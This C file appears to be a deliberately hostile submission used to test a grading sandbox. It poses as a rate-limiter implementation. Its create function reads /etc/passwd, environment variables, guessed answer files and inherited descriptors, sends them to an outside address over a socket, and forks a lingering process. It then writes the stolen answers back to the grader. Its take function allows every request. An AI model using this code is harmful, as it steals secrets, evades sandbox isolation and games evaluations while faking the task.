/*
 * Hostile: reads /etc/passwd, looks for the hidden answers in the environment, in files and in
 * inherited descriptors, opens a socket to send out what it found, and forks to outlive the test.
 * What it finds it would answer. Files are simply not there; the socket is the call that is
 * refused.
 */
#define _GNU_SOURCE
#include "bucket.h"

#include <fcntl.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define ANSWERS_FD 3

extern char **environ;

struct limiter {
	int nothing;
};

static char loot[1 << 16];
static size_t loot_size;

static void keep(const char *data, size_t size)
{
	if (size > sizeof loot - loot_size)
		size = sizeof loot - loot_size;
	memcpy(loot + loot_size, data, size);
	loot_size += size;
}

static void drain(int fd)
{
	char part[4096];
	ssize_t n;
	while ((n = read(fd, part, sizeof part)) > 0)
		keep(part, (size_t)n);
}

static void read_files(void)
{
	static const char *const paths[] = {"/etc/passwd", "/proc/self/environ", "../data/secret",
		"../data/secret/basics/01.ans", "data/secret/answers", "/dev/shm/answers", "."};
	for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
		int fd = open(paths[i], O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		drain(fd);
		close(fd);
	}
}

static void read_environment(void)
{
	for (char **entry = environ; entry != NULL && *entry != NULL; entry++)
		keep(*entry, strlen(*entry));
}

/* Descriptor 0 is the script, which the driver still needs. */
static void read_descriptors(void)
{
	for (int fd = ANSWERS_FD; fd < 64; fd++)
		drain(fd);
}

static void send_out(void)
{
	struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(80)};
	address.sin_addr.s_addr = htonl(0x01010101);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return;
	if (connect(fd, (struct sockaddr *)&address, sizeof address) == 0 &&
		write(fd, loot, loot_size) < 0)
		loot_size = 0;
	close(fd);
}

static void outlive(void)
{
	if (fork() == 0) {
		for (;;)
			pause();
	}
}

struct limiter *limiter_create(uint64_t burst, uint64_t refill, uint64_t period_ns, size_t max_keys)
{
	read_files();
	read_environment();
	read_descriptors();
	send_out();
	outlive();
	if (loot_size > 0 && write(ANSWERS_FD, loot, loot_size) == (ssize_t)loot_size)
		_exit(0);
	(void)burst;
	(void)refill;
	(void)period_ns;
	(void)max_keys;
	static struct limiter limiter;
	return &limiter;
}

void limiter_destroy(struct limiter *limiter)
{
	(void)limiter;
}

uint64_t limiter_take(struct limiter *limiter, uint64_t key, uint64_t cost, uint64_t now_ns)
{
	(void)limiter;
	(void)key;
	(void)cost;
	(void)now_ns;
	return LIMITER_ALLOWED;
}
